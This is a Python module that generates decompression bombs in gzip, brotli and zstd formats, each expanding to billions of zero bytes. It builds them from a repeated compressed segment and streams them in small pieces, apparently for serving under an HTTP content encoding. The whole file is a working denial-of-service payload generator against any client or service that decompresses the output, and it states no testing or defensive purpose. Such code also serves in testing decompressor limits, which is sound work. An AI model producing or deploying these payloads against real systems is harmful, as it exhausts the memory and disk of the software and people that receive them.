"""Billions of zeros in each coding, made without them: a beginning, a part that repeats, and an end."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Iterator
from itertools import chain, repeat
from typing import NamedTuple

UNIT = 10**7
CRC = {10**8: 0x2142554D, 10**9: 0x63F45742, 10**10: 0x2AF1CC17}
"""The CRC-32 of so many zeros; for each of them there is a bomb."""


class Bomb(NamedTuple):
    first: bytes
    again: bytes
    times: int
    last: bytes

    @property
    def size(self) -> int:
        """Bytes that it has encoded."""
        return len(self.first) + len(self.again) * self.times + len(self.last)

    def pieces(self) -> Iterator[bytes]:
        """What is sent, in pieces of 64 KiB or less."""
        batch = max(1, 65536 // len(self.again))
        whole, rest = divmod(self.times, batch)
        return chain((self.first,), repeat(self.again * batch, whole), (self.again * rest, self.last))


def gzip(zeros: int) -> Bomb:
    """One member. A full flush makes a part of it that may be repeated."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    part = compressor.compress(bytes(UNIT)) + compressor.flush(zlib.Z_FULL_FLUSH)
    head = b"\x1f\x8b\x08\0\0\0\0\0\0\x03"
    return Bomb(head, part, zeros // UNIT, compressor.flush() + struct.pack("<II", CRC[zeros], zeros & 0xFFFFFFFF))


def br(zeros: int) -> Bomb:
    """One stream, with the largest window. A flush makes a part that may be repeated, but for the first ones."""
    import brotli

    compressor = brotli.Compressor(quality=5, lgwin=24)
    parts = [compressor.process(bytes(UNIT)) + compressor.flush() for _ in range(5)]
    assert parts[3] == parts[4]
    return Bomb(b"".join(parts[:3]), parts[3], zeros // UNIT - 3, compressor.finish())


def zstd(zeros: int) -> Bomb:
    """One frame with a window of 8 MiB, of blocks that each say one byte 128 KiB times (RFC 8878 section 3.1.1.2)."""
    times, rest = divmod(zeros, 1 << 17)

    def block(size: int, last: bool) -> bytes:
        return (size << 3 | 1 << 1 | last).to_bytes(3, "little") + b"\0"

    return Bomb(b"\x28\xb5\x2f\xfd\x00\x68", block(1 << 17, False), times, block(rest, True))


BOMBS: dict[str, Callable[[int], Bomb]] = {"gzip": gzip, "br": br, "zstd": zstd}
